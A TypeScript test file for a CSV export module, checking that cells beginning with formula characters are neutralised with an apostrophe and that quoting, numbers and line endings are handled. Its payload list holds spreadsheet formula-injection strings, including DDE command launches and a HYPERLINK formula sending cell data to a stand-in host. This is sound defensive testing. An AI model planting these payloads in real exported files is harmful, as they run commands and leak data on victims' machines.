import { describe, expect, test } from "vitest";
import { csvText, numberCell, textCell } from "./csv.ts";

const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.invalid?x="&A1,"open")',
  "\t=1+1",
  "\r\n=1+1",
  "＝1+1",
  "|calc",
  "%0A=1",
  "  =1+1",
  "\ufeff=1",
];

describe("T37 no cell of a file is a formula", () => {
  for (const payload of PAYLOADS) {
    test(JSON.stringify(payload), () => {
      const cell = textCell(payload);
      expect(cell).toMatch(/^"?'/);
      expect(unquoted(cell)).toBe(`'${payload}`);
    });
  }

  test("nothing else gets an apostrophe", () => {
    for (const text of ["Nowruz", "نوروز", "12-5", "a=b", "01890f3e-7b1a", ""])
      expect(textCell(text)).toBe(text);
  });

  test("a negative amount stays a number, and nothing else passes for one", () => {
    expect(["-10.50", "0", "1234567890.00"].map(numberCell)).toEqual(["-10.50", "0", "1234567890.00"]);
    for (const text of ["-2+3", "=1", "1e5", "", "1,000.00", "۱۲", "-"])
      expect(() => numberCell(text)).toThrow();
  });
});

test("a comma, a quote or a line end stays inside its cell", () => {
  expect(textCell('a,"b"\nc')).toBe('"a,""b""\nc"');
  expect(unquoted(textCell("a;b\tc"))).toBe("a;b\tc");
});

test("a file begins with the mark of UTF-8 and ends every line as the standard says", () => {
  expect(
    csvText([
      ["a", "b"],
      ["1", "2"],
    ]),
  ).toBe("\ufeffa,b\r\n1,2\r\n");
});

/** Reads a cell back as a table program would. */
function unquoted(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}
